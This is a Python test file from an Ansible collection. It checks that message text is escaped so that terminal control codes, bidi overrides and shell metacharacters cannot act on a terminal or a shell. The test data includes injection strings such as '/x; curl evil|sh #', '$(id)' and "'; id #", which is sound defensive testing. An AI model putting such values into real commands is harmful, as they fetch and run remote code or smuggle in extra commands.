# Copyright: (c) 2026, tethys.channels contributors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""A value in a message acts neither on a terminal nor on a shell."""

from __future__ import annotations

import shlex
import subprocess

import pytest
from ansible_collections.tethys.channels.plugins.module_utils.text import (
    each_text,
    printable,
    printable_lines,
    shell_words,
)
from hypothesis import given
from hypothesis import strategies as st


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("plain", "plain"),
        ("Größe 5 µm, 日本", "Größe 5 µm, 日本"),
        ("\x1b[31mred\x1b[0m", "\\x1b[31mred\\x1b[0m"),
        ("\x9b2J", "\\x9b2J"),
        ("one\ntwo\r\n\tthree", "one two three"),
        ("a\u202egpj.exe", "a\\u202egpj.exe"),
        ("a\u2066b\u2069", "a\\u2066b\\u2069"),
        ("\x07\x08\x7f\x00", "\\x07\\x08\\x7f\\x00"),
        ("\ud800", "\\ud800"),
        ("\u2028fatal: [portal]", " fatal: [portal]"),
        ("\U000e0041", "\\U000e0041"),
    ],
)
def test_a_text_in_one_line(text: str, shown: str) -> None:
    assert printable(text) == shown


@given(st.text())
def test_whatever_it_is_it_prints(text: str) -> None:
    assert printable(text).isprintable()
    assert printable(printable(text)) == printable(text)
    assert all(line.replace("\t", "").isprintable() for line in printable_lines(text).split("\n"))


@given(st.text(alphabet=st.characters(whitelist_categories=("L", "N", "P", "S", "Zs"))))
def test_what_prints_stays(text: str) -> None:
    assert printable(text) == text or not text.isprintable()


def test_lines_stay_lines() -> None:
    assert printable_lines("a: 1\n\tb: \x1b]0;title\x07\r\n") == "a: 1\n\tb: \\x1b]0;title\\x07\\x0d\n"


def test_each_text_of_a_value() -> None:
    value = {"a": ["\x1b", 1, None, {"b": "\x9b"}], "c": ("\n",), "d": True}
    assert each_text(value) == {"a": ["\\x1b", 1, None, {"b": "\\x9b"}], "c": [" "], "d": True}


@given(st.lists(st.text(alphabet=st.characters(blacklist_categories=("C", "Zl", "Zp", "Zs"))), min_size=1))
def test_a_shell_reads_the_same_words(words: list[str]) -> None:
    assert shlex.split(shell_words(*words)) == words


@pytest.mark.parametrize(
    "word", ["/x; curl evil|sh #", "$(id)", "`id`", "a'b\"c", "", "-rf", "a b", "~", "*", "!x", "a\\b"]
)
def test_a_word_that_a_shell_would_obey(word: str) -> None:
    assert shlex.split(shell_words("chown", "www-data", word)) == ["chown", "www-data", word]


@pytest.mark.parametrize("word", ["a\nb", "\x1b[2J'\\", "a\u202eb", "\x9b", "caf\udce9", "'; id #\n"])
def test_a_word_that_does_not_print_is_read_by_bash(word: str) -> None:
    command = shell_words("printf", "%s", word)
    assert command.isprintable()
    run = subprocess.run(["bash", "-c", command], stdout=subprocess.PIPE, check=True)
    assert run.stdout == word.encode("utf-8", "surrogateescape")
